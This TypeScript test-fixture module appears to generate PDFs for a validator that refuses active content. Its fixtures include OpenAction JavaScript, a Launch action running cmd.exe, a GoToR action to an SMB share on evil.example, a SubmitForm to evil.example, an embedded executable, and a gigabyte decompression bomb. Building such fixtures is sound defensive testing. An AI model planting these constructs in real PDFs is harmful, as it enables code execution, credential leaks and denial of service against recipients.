import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

export interface SamplePdf {
  readonly pages?: number;
  /** True to pack dictionaries into object streams, as most programs do today. */
  readonly packed?: boolean;
  /** Changes the document before it is saved. */
  readonly change?: (document: PDFDocument) => void | Promise<void>;
}

/** A PDF with a line of text on each page. */
export const samplePdf = async ({ pages = 1, packed = true, change }: SamplePdf = {}): Promise<Buffer> => {
  const document = await PDFDocument.create();
  for (let page = 1; page <= pages; page += 1) document.addPage([300, 400]).drawText(`Transcript, page ${page}`);
  await change?.(document);
  return Buffer.from(await document.save({ useObjectStreams: packed }));
};

/** PDFs that do or contain more than a document to read; each is refused as active. */
export const activePdfs = {
  'JavaScript that runs on opening': (document: PDFDocument) => document.addJavaScript('main', 'app.alert(1)'),
  'JavaScript on a page': (document: PDFDocument) => {
    const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: action }));
  },
  'a program that is started': (document: PDFDocument) => {
    const action = document.context.register(document.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }));
    document.catalog.set(PDFName.of('OpenAction'), action);
  },
  'an action whose kind stands elsewhere': (document: PDFDocument) => {
    const kind = document.context.register(PDFName.of('Launch'));
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: kind, F: PDFString.of('cmd.exe') }));
  },
  'a document on a share that is opened at once': (document: PDFDocument) => {
    const action = document.context.obj({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\share'), D: [0] });
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
  },
  'a stream whose bytes are in another file': (document: PDFDocument) => {
    document.context.register(document.context.stream('', { F: PDFString.of('other.bin') }));
  },
  'an annotation that sends a form': (document: PDFDocument) => {
    const action = document.context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') });
    const annotation = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action });
    document.getPage(0).node.addAnnot(document.context.register(annotation));
  },
  'an embedded file': (document: PDFDocument) => document.attach(Buffer.from('MZ'), 'grades.exe'),
  'a script that nothing leads to': (document: PDFDocument) => {
    document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
  },
} satisfies Readonly<Record<string, (document: PDFDocument) => void | Promise<void>>>;

/** Opens by its password only. */
export const encryptedPdf = (): Promise<Buffer> =>
  samplePdf({ change: (document) => document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' }) });

const assemble = (objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object) => Buffer.concat([Buffer.from(object), Buffer.from('\n')])),
    Buffer.from('trailer\n<< /Size 20 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ]);

const onePage = [
  '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj',
  '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj',
  '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>\nendobj',
];

/** The simplest PDF of one page, followed by these objects. Numbers from 4 to 19 are free. */
export const handmadePdf = (objects: readonly (string | Buffer)[]): Buffer => assemble([...onePage, ...objects]);

const stream = (entries: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`4 0 obj\n<< ${entries} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream\nendobj'),
  ]);

/** A PDF with one stream that has these dictionary entries. */
export const pdfWithStream = (entries: string, content: Buffer): Buffer => handmadePdf([stream(entries, content)]);

/** A PDF with these objects in an object stream. */
export const pdfWithPacked = (objects: readonly string[]): Buffer => {
  const starts = objects.map((_, index) => objects.slice(0, index).join(' ').length + Math.min(index, 1));
  const head = starts.map((start, index) => `${index + 5} ${start} `).join('');
  const entries = `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`;
  return pdfWithStream(entries, deflateSync(Buffer.from(head + objects.join(' '), 'latin1')));
};

const MIB = 2 ** 20;

/** A PDF that unpacks to a gigabyte of objects. */
export const unpackingBomb = async (): Promise<Buffer> => {
  const zeros = Buffer.alloc(MIB, ' ');
  const packed = await buffer(Readable.from(Array.from({ length: 1024 }, () => zeros)).pipe(createDeflate()));
  return pdfWithStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed);
};
